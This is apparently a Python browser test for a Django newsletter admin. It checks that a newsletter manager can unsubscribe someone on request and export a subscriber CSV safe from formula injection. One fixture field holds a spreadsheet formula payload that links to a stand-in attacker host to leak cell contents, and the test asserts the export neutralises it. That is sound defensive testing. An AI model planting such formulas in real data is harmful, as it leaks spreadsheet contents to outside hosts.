"""A newsletter manager's day with the subscriber list, logged in as a newsletter manager (never an
administrator): find a person who asked by phone to leave, take them off the list (recorded with who and
when), and export the list to a spreadsheet in which nothing a visitor typed can run as a formula.
"""

import csv
import io
import re

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.utils import timezone
from playwright.sync_api import expect

from editorial import roles
from newsletter.models import Subscriber
from tests.browser.conftest import screenshot

PASSWORD = "a-long-role-password-42"


def test_newsletter_manager_unsubscribes_someone_on_request_and_exports_a_safe_spreadsheet(page):
    manager = get_user_model().objects.create_user("journey-newsletter", "n@example.org", PASSWORD)
    manager.groups.add(Group.objects.get(name=roles.NEWSLETTER_MANAGERS))
    asked = Subscriber.objects.create(
        email="phoned-to-leave@example.org",
        language="cy",
        status=Subscriber.Status.CONFIRMED,
        consent_text="We will email you the newsletter.",
        consent_given_at=timezone.now(),
        confirmed_at=timezone.now(),
        # Written before sources were checked: what an attacker once typed into the form.
        consent_source='=HYPERLINK("http://evil.example/?"&A1,"Click")',
    )

    page.goto("/admin/login/")
    page.get_by_label("Username").fill("journey-newsletter")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile(r"/admin/$"))

    page.get_by_role("link", name="Subscribers", exact=True).click()
    page.get_by_role("textbox", name="Search").first.fill("phoned-to-leave")
    row = page.locator("tr").filter(has_text="phoned-to-leave@example.org")
    expect(row).to_have_count(1)
    row.get_by_role("link", name="phoned-to-leave@example.org").click()
    # The form corrects a language; it has no status to set.
    expect(page.get_by_role("combobox", name="Language")).to_be_visible()
    expect(page.get_by_role("combobox", name="Status")).to_have_count(0)

    page.get_by_role("button", name="Actions").first.click()
    page.get_by_role("link", name="Unsubscribe this person").click()
    expect(page.get_by_text("Take phoned-to-leave@example.org off the list?")).to_be_visible()
    screenshot(page, "journey-newsletter-manager-unsubscribe")
    page.get_by_role("button", name="Yes, unsubscribe").click()
    expect(
        page.get_by_text(re.compile("phoned-to-leave@example.org .*(unsubscribed|off the list)"))
    ).to_be_visible()

    asked.refresh_from_db()
    assert asked.status == Subscriber.Status.UNSUBSCRIBED
    assert asked.unsubscribed_via == "staff" and asked.unsubscribed_by == manager

    page.goto("/admin/subscribers/")
    page.get_by_role("button", name="Actions").first.click()
    with page.expect_download() as download:
        page.get_by_role("link", name=re.compile("Download CSV")).click()
    rows = list(csv.DictReader(io.StringIO(download.value.path().read_text(encoding="utf-8-sig"))))
    exported = next(r for r in rows if "phoned-to-leave@example.org" in r.values())
    assert any(value.startswith("'=HYPERLINK") for value in exported.values())
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values() if value)
